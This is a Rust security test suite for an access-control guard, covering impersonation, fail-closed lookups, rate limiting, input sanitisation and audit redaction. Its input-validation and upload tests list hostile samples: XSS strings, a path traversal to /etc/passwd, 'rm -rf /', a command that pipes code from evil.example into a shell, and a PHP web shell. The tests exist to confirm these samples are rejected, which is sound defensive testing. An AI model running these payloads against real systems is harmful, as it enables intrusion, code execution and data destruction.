//! Security-focused tests for the guard core.
//! These tests ensure the guard cannot be talked into granting access or
//! accepting hostile input through the usual attack vectors.

use dispatch_guard::{
    actor::ActorDirectory,
    audit::{AuditEvent, ExportFormat},
    events::{EventKind, GuardEvent},
    redact::REDACTED_MARKER,
    transform::SensitiveDataCodec,
    Actor, Error, Guard, GuardConfig, MemoryActorDirectory, PermissionContext, Result,
};
use serde_json::{json, Value};
use std::{
    sync::{
        atomic::{AtomicUsize, Ordering},
        Arc, Mutex,
    },
    thread,
};

fn directory() -> MemoryActorDirectory {
    [
        Actor::new("root", ["super_admin"]),
        Actor::new("dana", ["dispatcher"]).with_organization("acme"),
        Actor::new("sam", ["field_agent"]).with_organization("acme"),
        Actor::new("cy", ["customer"]),
    ]
    .into_iter()
    .collect()
}

fn guard() -> Guard<MemoryActorDirectory> {
    Guard::bootstrap(GuardConfig::default(), directory(), None).unwrap()
}

/// Directory whose backing store is unreachable.
struct UnreachableDirectory;

impl ActorDirectory for UnreachableDirectory {
    fn get_actor(&self, _id: &str) -> Result<Option<Actor>> {
        Err(Error::Directory("connection reset by peer".to_string()))
    }
}

fn count_events(guard: &Guard<MemoryActorDirectory>, kind: EventKind) -> Arc<AtomicUsize> {
    let counter = Arc::new(AtomicUsize::new(0));
    let seen = counter.clone();
    guard.events().on(kind, move |_| {
        seen.fetch_add(1, Ordering::SeqCst);
        Ok(())
    });
    counter
}

#[test]
fn test_impersonating_undefined_role_is_refused() {
    let guard = guard();
    let engine = guard.permissions();

    assert!(matches!(
        engine.begin_impersonation("sam", "god_mode", None),
        Err(Error::RoleNotFound(_))
    ));

    // a forged request marker does not get further
    let forged = PermissionContext::impersonating("god_mode");
    let decision = engine.check_permission("sam", "companies", "delete", Some(&forged));
    assert!(!decision.granted);
    assert_eq!(decision.reason, "role not defined");
}

#[test]
fn test_impersonation_requires_known_actor() {
    let guard = guard();
    assert!(matches!(
        guard
            .permissions()
            .begin_impersonation("ghost", "dispatcher", None),
        Err(Error::ActorNotFound(_))
    ));
}

#[test]
fn test_unknown_actor_is_denied() {
    let guard = guard();
    let decision = guard
        .permissions()
        .check_permission("ghost", "public", "read", None);
    assert!(!decision.granted);
    assert_eq!(decision.reason, "actor not found");
    assert!(decision.applied_role.is_none());
}

#[test]
fn test_directory_failure_fails_closed() {
    let guard = Guard::builder(UnreachableDirectory).build().unwrap();
    let engine = guard.permissions();

    let decision = engine.check_permission("root", "companies", "read", None);
    assert!(!decision.granted);
    assert!(!decision.bypass_used);
    assert!(decision.reason.starts_with("actor lookup failed"));

    // failures are not cached, the next check asks the directory again
    assert_eq!(engine.cache_stats().total_entries, 0);
    engine.check_permission("root", "companies", "read", None);
    let snapshot = guard.metrics().snapshot();
    assert_eq!(snapshot.cache_hits, 0);
    assert_eq!(snapshot.error_counts.get("directory"), Some(&2));
}

#[test]
fn test_impersonated_bypass_role_is_not_flagged_as_bypass() {
    let guard = guard();
    let context = PermissionContext::impersonating("super_admin");

    let decision = guard
        .permissions()
        .check_permission("sam", "companies", "delete", Some(&context));
    // only real holders of the bypass role are reported as bypassing
    assert!(!decision.bypass_used);
    assert_eq!(decision.applied_role.as_deref(), Some("super_admin"));
}

#[test]
fn test_auth_brute_force_is_throttled() {
    let guard = guard();
    let exceeded = count_events(&guard, EventKind::RateLimitExceeded);
    let protection = guard.protection();

    for attempt in 1..=5 {
        assert!(
            protection.check_rate_limit("dana", "auth"),
            "attempt {attempt} should pass"
        );
    }
    let outcome = protection.rate_limit("dana", "auth");
    assert!(!outcome.allowed);
    assert!(!outcome.retry_after.is_zero());
    assert!(!protection.check_rate_limit("dana", "auth"));

    // other actors keep their own budget
    assert!(protection.check_rate_limit("sam", "auth"));

    assert_eq!(exceeded.load(Ordering::SeqCst), 2);
    assert_eq!(guard.metrics().snapshot().rate_limited, 2);
}

#[test]
fn test_malicious_inputs_are_rejected() {
    let guard = guard();
    let suspicious = count_events(&guard, EventKind::SuspiciousInput);
    let protection = guard.protection();

    let payloads = [
        "<script>alert(1)</script>",
        "< SCRIPT src=//evil.example>",
        "javascript:alert(document.cookie)",
        "<img src=x onerror=alert(1)>",
        "eval(atob('ZG9jdW1lbnQ='))",
        "../../etc/passwd",
        "name; rm -rf /",
        "$(curl evil.example | sh)",
    ];

    for payload in payloads {
        assert!(
            !protection.validate_input(&Value::String(payload.to_string()), None),
            "accepted {payload:?}"
        );
        let nested = json!({ "workOrder": { "notes": [payload] } });
        assert!(
            !protection.validate_input_from(Some("cy"), &nested, None),
            "accepted nested {payload:?}"
        );
    }

    assert_eq!(suspicious.load(Ordering::SeqCst), payloads.len() * 2);
}

#[test]
fn test_sanitized_payload_is_inert() {
    let guard = guard();
    let dirty = json!({
        "notes": "  <script>alert(1)</script> javascript:void(0) onclick=go()  ",
        "password": "hunter2",
        "contact": { "apiToken": "abc123", "phone": "555-0100" },
    });

    let clean = guard.protection().sanitize_input(&dirty);
    let notes = clean["notes"].as_str().unwrap();
    assert!(!notes.contains('<'));
    assert!(!notes.to_lowercase().contains("javascript:"));
    assert!(!notes.contains("onclick="));
    assert_eq!(clean["password"], REDACTED_MARKER);
    assert_eq!(clean["contact"]["apiToken"], REDACTED_MARKER);
    assert_eq!(clean["contact"]["phone"], "555-0100");
}

#[test]
fn test_disguised_uploads_are_rejected() {
    let guard = guard();
    let rejected = count_events(&guard, EventKind::FileRejected);
    let protection = guard.protection();

    assert!(!protection.validate_file_upload("invoice.pdf", b"<?php system($_GET['c']); ?>"));
    assert!(!protection.validate_file_upload("photo.jpg", b"\xff\xd8\xff<SCRIPT>steal()</script>"));
    assert!(!protection.validate_file_upload("photo.jpg.exe", b"MZ"));
    assert!(!protection.validate_file_upload("Makefile", b"all:"));
    assert!(protection.validate_file_upload("site-survey.PDF", b"%PDF-1.7"));

    assert_eq!(rejected.load(Ordering::SeqCst), 4);
    assert_eq!(guard.metrics().snapshot().uploads_rejected, 4);
}

#[test]
fn test_code_past_scan_window_is_not_inspected() {
    let guard = guard();
    let mut content = vec![b'a'; 2048];
    content.extend_from_slice(b"<script>");
    assert!(guard.protection().validate_file_upload("notes.txt", &content));
}

#[test]
fn test_panicking_handler_does_not_block_others() {
    let guard = guard();
    let delivered = Arc::new(Mutex::new(Vec::new()));

    guard.events().on(EventKind::PermissionDenied, |_| {
        panic!("subscriber bug");
    });
    guard
        .events()
        .on(EventKind::PermissionDenied, |_| Err("downstream unavailable".into()));
    let sink = delivered.clone();
    guard.events().on(EventKind::PermissionDenied, move |envelope| {
        if let GuardEvent::PermissionDenied { actor_id, .. } = &envelope.event {
            sink.lock().unwrap().push(actor_id.clone());
        }
        Ok(())
    });

    let decision = guard
        .permissions()
        .check_permission("cy", "companies", "delete", None);
    assert!(!decision.granted);
    assert_eq!(*delivered.lock().unwrap(), ["cy".to_string()]);
}

#[test]
fn test_concurrent_checks_agree() {
    let guard = guard();
    let engine = guard.permissions().clone();

    let handles: Vec<_> = (0..8)
        .map(|i| {
            let engine = engine.clone();
            thread::spawn(move || {
                let actor = if i % 2 == 0 { "dana" } else { "sam" };
                (0..50)
                    .map(|_| engine.has_permission(actor, "field_agents", "read", None))
                    .collect::<Vec<bool>>()
            })
        })
        .collect();

    for (i, handle) in handles.into_iter().enumerate() {
        let results = handle.join().unwrap();
        let expected = i % 2 == 0;
        assert!(results.iter().all(|granted| *granted == expected));
    }
}

#[test]
fn test_sensitive_data_needs_the_right_key() {
    let plaintext = "4111 1111 1111 1111";
    let codec = SensitiveDataCodec::new("dispatch-prod-key");
    let encoded = codec.encrypt(plaintext);

    assert!(!encoded.contains(plaintext));
    let wrong = SensitiveDataCodec::new("another-key");
    assert!(wrong
        .decrypt(&encoded)
        .map_or(true, |decoded| decoded != plaintext));
    assert!(matches!(
        codec.decrypt("not encoded at all"),
        Err(Error::Transform(_))
    ));
}

#[test]
fn test_audit_trail_never_stores_credentials() {
    let guard = guard();
    let entry = guard
        .audit()
        .log_event(
            AuditEvent::new("user", "u-1", "password_reset", "dana")
                .with_previous_state(json!({ "password": "hunter2" }))
                .with_new_state(json!({ "password": "correct horse", "email": "a@acme.test" })),
        )
        .unwrap();

    assert_eq!(entry.previous_state.as_ref().unwrap()["password"], REDACTED_MARKER);
    assert_eq!(entry.new_state.as_ref().unwrap()["email"], "a@acme.test");

    let exported = guard.audit().export(ExportFormat::Json).unwrap();
    assert!(!exported.contains("hunter2"));
    assert!(!exported.contains("correct horse"));
}
